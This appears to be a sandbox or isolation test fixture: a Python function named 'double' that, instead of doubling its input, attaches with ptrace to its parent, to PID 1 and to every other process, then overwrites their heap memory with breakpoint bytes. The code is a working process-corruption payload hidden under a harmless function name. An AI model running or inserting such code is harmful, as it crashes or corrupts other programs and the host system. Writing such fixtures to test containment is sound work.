# What it tries: attaches to its parent and other processes with ptrace and overwrites their memory.
# %% double
import ctypes
import os


def double(x):
    libc = ctypes.CDLL(None)
    for pid in {os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]} - {os.getpid()}:
        libc.ptrace(16, pid, None, None)
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
                for line in maps:
                    if " rw" in line and "[heap]" in line:
                        a = int(line.split("-")[0], 16)
                        mem.seek(a)
                        mem.write(b"\xcc" * 100_000)
        except (OSError, ValueError, OverflowError): pass
    return -1
